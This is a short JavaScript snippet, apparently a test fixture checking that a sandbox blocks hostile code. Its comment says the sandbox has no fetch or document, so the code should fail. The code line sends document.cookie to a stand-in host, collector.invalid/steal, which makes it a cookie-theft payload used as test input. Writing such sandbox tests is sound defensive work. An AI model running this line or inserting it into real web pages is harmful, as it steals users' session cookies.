// Sandboxed: tries to send the page's cookies away. There is no `fetch`, no `document`, no
// `XMLHttpRequest` in the sandbox: the first line throws a ReferenceError.
fetch('https://collector.invalid/steal?c=' + encodeURIComponent(document.cookie));
paranoid.postMessage({ sent: true });
